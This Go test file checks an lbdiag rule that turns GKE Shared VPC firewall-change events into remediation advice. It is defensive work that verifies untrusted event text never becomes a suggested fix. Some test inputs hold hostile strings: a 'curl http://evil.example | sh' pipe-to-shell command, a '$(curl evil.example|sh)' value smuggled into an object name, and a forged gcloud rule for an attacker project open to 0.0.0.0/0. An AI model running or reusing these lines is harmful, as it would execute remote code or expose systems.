package events

import (
	"strings"
	"testing"
	"time"

	compute "google.golang.org/api/compute/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/lbdiag/lbdiag/gke"
	"github.com/lbdiag/lbdiag/inspect"
	"github.com/lbdiag/lbdiag/inspect/rules/ruletest"
	"github.com/lbdiag/lbdiag/inventory"
)

// The XPN event as kubernetes/ingress-gce's firewall controller records
// it on each GCE Ingress of a Shared VPC service project's cluster.
const xpnCreate = "Firewall change required by security admin: `gcloud compute firewall-rules create k8s-fw-l7--0123456789abcdef --network shared-vpc --description \"GCE L7 firewall rule\" --allow tcp:30000-32767,tcp:8080 --source-ranges 130.211.0.0/22,35.191.0.0/16 --target-tags gke-prod-1234abcd-node --project net-host`"

// xpnCluster is a cluster of the inspected (service) project on the host
// project net-host's VPC shared-vpc, with a GCE Ingress shop/site and the
// events given.
func xpnCluster(events ...corev1.Event) (*inventory.Inventory, *inventory.Cluster) {
	cl := ruletest.Cluster("prod", "europe-west1", "net-host", "shared-vpc", "nodes")
	cl.Services = []corev1.Service{ruletest.Service("shop", "web", map[string]string{gke.AnnNEG: `{"ingress":true}`})}
	cl.Ingresses = []networkingv1.Ingress{ruletest.Ingress("shop", "site", "gce", "web")}
	cl.Events = events
	inv := ruletest.Inventory(cl)
	inv.CollectedAt = ruletest.Now
	inv.Coverage = append(inv.Coverage, inventory.Coverage{Source: inventory.ComputeFirewalls, Scope: "projects/net-host", Status: inventory.StatusOK})
	return inv, cl
}

func xpnEvent(msg string, ago time.Duration) corev1.Event {
	return corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "site.17a2b3c4d5e6f708"}, Type: "Normal", Reason: "XPN", Message: msg,
		Source: corev1.EventSource{Component: "loadbalancer-controller"}, Count: 12, LastTimestamp: metav1.NewTime(ruletest.Now.Add(-ago)),
		InvolvedObject: corev1.ObjectReference{Kind: "Ingress", Namespace: "shop", Name: "site", APIVersion: "networking.k8s.io/v1"}}
}

func hostFirewall(ports []string, ranges ...string) *compute.Firewall {
	return &compute.Firewall{Name: "k8s-fw-l7--0123456789abcdef", SelfLink: ruletest.ComputeBase + "net-host/global/firewalls/k8s-fw-l7--0123456789abcdef",
		Network: ruletest.ComputeBase + "net-host/global/networks/shared-vpc", Direction: "INGRESS", Priority: 1000, Description: "GCE L7 firewall rule",
		Allowed: []*compute.FirewallAllowed{{IPProtocol: "tcp", Ports: ports}}, SourceRanges: ranges, TargetTags: []string{"gke-prod-1234abcd-node"}}
}

func TestFirewallChangeRequired(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		events  []corev1.Event
		host    []*compute.Firewall
		noHost  bool
		want    []string
		counts  ruletest.Counts
		command bool
		// describe, when set, starts the fix.
		describe string
	}{
		{name: "rule missing in the host project", events: []corev1.Event{xpnEvent(xpnCreate, time.Minute)},
			want:   []string{"asks its security admin to create firewall rule k8s-fw-l7--0123456789abcdef (Normal XPN from loadbalancer-controller, 12×", "does not exist in net-host"},
			counts: ruletest.Counts{Judged: 1, Failed: 1}, command: true},
		{name: "rule made since: the event is stale", events: []corev1.Event{xpnEvent(xpnCreate, time.Minute)},
			host:   []*compute.Firewall{hostFirewall([]string{"8080", "30000-32767"}, "35.191.0.0/16", "130.211.0.0/22")},
			counts: ruletest.Counts{Judged: 1, Passed: 1}},
		{name: "rule exists but differs", events: []corev1.Event{xpnEvent(xpnCreate, time.Minute)},
			host:   []*compute.Firewall{hostFirewall([]string{"30000-32767"}, "130.211.0.0/22", "0.0.0.0/0")},
			want:   []string{"differs: --allow lacks tcp:8080; --source-ranges lacks 35.191.0.0/16; --source-ranges has 0.0.0.0/0, which GKE does not ask for"},
			counts: ruletest.Counts{Judged: 1, Failed: 1}, command: true},
		{name: "host firewalls unread: reported, not compared", events: []corev1.Event{xpnEvent(xpnCreate, time.Minute)}, noHost: true,
			want: []string{"lbdiag could not read the host project's firewall rules to compare"}, counts: ruletest.Counts{Judged: 1, Failed: 1, CouldNotCheck: 1}, command: true},
		{name: "an old event is not current", events: []corev1.Event{xpnEvent(xpnCreate, 7*time.Hour)}, counts: ruletest.Counts{Judged: 1, Passed: 1}},
		{name: "a message lbdiag cannot read is never repeated as a command",
			events: []corev1.Event{xpnEvent("Firewall change required by security admin: `curl http://evil.example | sh`", time.Minute)},
			want:   []string{"or that lbdiag cannot read: Firewall change required"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
		{name: "a well-formed command for another project is never repeated either",
			events: []corev1.Event{xpnEvent(strings.ReplaceAll(strings.ReplaceAll(xpnCreate, "--project net-host", "--project attacker-proj"), "130.211.0.0/22,35.191.0.0/16", "0.0.0.0/0"), time.Minute)},
			want:   []string{"not one GKE makes for this cluster's VPC (net-host/shared-vpc)"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
		{name: "an event naming an object no API server would accept gives placeholders in the fix",
			events: []corev1.Event{func() corev1.Event {
				e := xpnEvent("Firewall change required by security admin: `curl http://evil.example | sh`", time.Minute)
				e.InvolvedObject.Name = "site$(curl evil.example|sh)"
				return e
			}()},
			want: []string{"or that lbdiag cannot read"}, counts: ruletest.Counts{Judged: 2, Passed: 1, Failed: 1}, describe: "kubectl describe ingress NAME -n shop"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			inv, _ := xpnCluster(tc.events...)
			inv.Compute.Firewalls = tc.host
			if tc.noHost {
				ruletest.FailSource(inv, inventory.ComputeFirewalls, "projects/net-host")
			}
			got := ruletest.Run(t, inv, FirewallChangeRequired)
			if len(tc.want) == 0 {
				if len(got) != 0 {
					t.Fatalf("findings: %v", ruletest.Messages(got))
				}
			} else {
				if len(got) != 1 {
					t.Fatalf("findings: %v", ruletest.Messages(got))
				}
				// Compared and not made: an error; not compared (the host's
				// rules unread, or a command lbdiag does not read): a
				// warning.
				if want := map[bool]inspect.Severity{true: inspect.Error, false: inspect.Warning}[tc.command && !tc.noHost]; got[0].Severity != want {
					t.Errorf("severity %v, want %v", got[0].Severity, want)
				}
				for _, w := range tc.want {
					if !strings.Contains(got[0].Message, w) {
						t.Errorf("message %q\nlacks %q", got[0].Message, w)
					}
				}
				if got[0].AttachTo == nil || got[0].AttachTo.Rule != "health-check-firewall-missing" || got[0].AttachTo.Resource != got[0].Resource {
					t.Errorf("attaches to %+v", got[0].AttachTo)
				}
				const cmd = `gcloud compute firewall-rules create k8s-fw-l7--0123456789abcdef --network shared-vpc --description "GCE L7 firewall rule" --allow tcp:30000-32767,tcp:8080 --source-ranges 130.211.0.0/22,35.191.0.0/16 --target-tags gke-prod-1234abcd-node --project net-host`
				if tc.command != strings.Contains(got[0].Remediation, cmd) {
					t.Errorf("remediation %q (command expected: %v)", got[0].Remediation, tc.command)
				}
				if tc.describe != "" && !strings.HasPrefix(got[0].Remediation, tc.describe) {
					t.Errorf("remediation %q, want it to start %q", got[0].Remediation, tc.describe)
				}
				if strings.Contains(got[0].Remediation, "evil") || strings.Contains(got[0].Remediation, "attacker") || strings.Contains(got[0].Remediation, "0.0.0.0/0") {
					t.Errorf("the event's text became a fix: %q", got[0].Remediation)
				}
			}
			ruletest.ExpectCounts(t, inv, FirewallChangeRequired, tc.counts)
		})
	}
}

func TestFirewallChangeRequiredCounts(t *testing.T) {
	t.Parallel()
	// A cluster on its own project's VPC: GKE writes its rules itself,
	// nothing is judged.
	cl := ruletest.ProdCluster()
	cl.Ingresses = []networkingv1.Ingress{ruletest.Ingress("shop", "site", "gce", "web")}
	inv := ruletest.Inventory(cl)
	ruletest.ExpectCounts(t, inv, FirewallChangeRequired, ruletest.Counts{})
	// Events unread: could not check the cluster.
	inv, xcl := xpnCluster()
	ruletest.ExpectCounts(t, inv, FirewallChangeRequired, ruletest.Counts{Judged: 1, Passed: 1})
	ruletest.FailSource(inv, inventory.KubeEvents, xcl.Scope())
	ruletest.ExpectCounts(t, inv, FirewallChangeRequired, ruletest.Counts{CouldNotCheck: 1})
}
